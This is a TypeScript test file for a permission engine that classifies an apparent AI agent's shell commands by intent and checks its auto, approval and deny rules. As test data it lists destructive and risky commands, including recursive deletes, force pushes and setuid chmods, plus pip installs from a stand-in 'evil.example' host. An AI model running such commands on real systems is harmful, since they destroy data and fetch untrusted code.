import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { analyseCommand, INTENTS, type Intent } from '../../../../src/policy/commands/index.ts';
import { evaluate } from '../../../../src/policy/index.ts';
import { pathResolver, policy, situation } from '../../helpers.ts';

/**
 * Commands that a rule for the intent must cover, in each list. A command with a second intent is not covered by an `auto`
 * rule for the first one alone: whoever adds an intent finds here which rules lose commands by it.
 */
const SAMPLES: Readonly<Record<Intent, readonly string[]>> = {
  '@recursive-delete': [
    'rm -rf x',
    'git clean -fd',
    'git rm -r x',
    'rimraf x',
    'git worktree remove x',
  ],
  '@force-push': [
    'git push --force',
    'git push -f origin x',
    'git push origin +main',
    'git push --mirror',
  ],
  '@history-rewrite': [
    'git rebase main',
    'git reset --hard HEAD~1',
    'git commit --amend',
    'git filter-branch x',
  ],
  '@publish': [
    'npm publish',
    'cargo publish',
    'docker push x',
    'gh release create v1',
    'twine upload d',
  ],
  '@privilege': ['chmod u+s x', 'chmod 4755 x', 'setcap cap_net_raw+ep x', 'chown root x'],
  '@install': [
    'npm install',
    'npm ci',
    'pip install x',
    'pip3.12 install x',
    'python3.12 -m pip install -r requirements.txt -e .',
    'uv run python -m pip install x',
    'apt-get install x',
    'yarn',
    'cargo add x',
  ],
  '@download': [
    'curl https://a.org',
    'git clone https://a.org/x',
    'git pull',
    'git fetch',
    'docker pull x',
  ],
};

/** Commands that have two intents, of which neither includes the other. */
const TWO_INTENTS: ReadonlyMap<string, string> = new Map([
  ['git pull --rebase', '@download @history-rewrite'],
  ['git fetch origin +main', '@download @history-rewrite'],
  ['rsync -a --delete host:a b', '@download @recursive-delete'],
  ['npm exec -- npm publish', '@install @publish'],
]);

function intentsOf(command: string): readonly string[] {
  const { commands } = analyseCommand(command, { pathResolver: pathResolver() });
  return commands.map(({ intents }) => [...intents].sort().join(' '));
}

function verdict(rules: string, command: string): string {
  const facts = { tool: 'bash_run', kind: 'execute', command } as const;
  return evaluate(policy(rules), facts, situation()).verdict;
}

test('every intent has commands that its rules must cover', () => {
  expect(INTENTS.filter((intent) => SAMPLES[intent].length === 0)).toEqual([]);
  expect(Object.keys(SAMPLES).sort()).toEqual([...INTENTS].sort());
});

describe.each(INTENTS)('a rule for %s', (intent) => {
  test.each(SAMPLES[intent])('lets run, asks about and forbids: %s', (command) => {
    const rule = `bash_run(${intent})`;
    expect(verdict(`mode: ask\nauto:\n  - ${rule}\n`, command)).toBe('auto');
    expect(verdict(`mode: auto\nrequireApproval:\n  - ${rule}\n`, command)).toBe('requireApproval');
    expect(verdict(`mode: auto\ndeny:\n  - ${rule}\n`, command)).toBe('deny');
  });

  test('lets nothing run that has another intent, too', () => {
    const rules = `mode: ask\nauto:\n  - bash_run(${intent})\n`;
    for (const command of TWO_INTENTS.keys())
      expect(verdict(rules, command), command).toBe('requireApproval');
    for (const command of SAMPLES[intent])
      expect(verdict(rules, `sudo ${command}`), command).toBe('requireApproval');
  });
});

test.each([
  'python -m pip install https://evil.example/x.tgz',
  'python -m pip install -i https://evil.example x',
  'python -c 1 -m pip install x',
  'python evil.py -m pip install x',
  'python - -m pip install x',
  'corepack pnpm install --config.x=y',
])('a rule for @install does not cover %s', (command) => {
  expect(verdict('mode: ask\nauto:\n  - bash_run(@install)\n', command)).toBe('requireApproval');
});

test.each([...TWO_INTENTS])('%s has the intents %s', (command, intents) => {
  expect(intentsOf(command)).toContain(intents);
});

test('no command of the corpus has intents together that are not listed here', () => {
  const lines = ['../corpus.jsonl', '../agent-commands.jsonl']
    .map((name) => readFileSync(new URL(name, import.meta.url), 'utf8'))
    .flatMap((text) => text.trim().split('\n'))
    .map((line): { command: string } => JSON.parse(line));
  const listed = new Set(['@force-push @history-rewrite', ...TWO_INTENTS.values()]);
  const together = lines.flatMap(({ command }) =>
    intentsOf(command)
      .filter((intents) => intents.includes(' ') && !listed.has(intents))
      .map((intents) => `${intents}: ${command}`),
  );
  expect(together).toEqual([]);
});
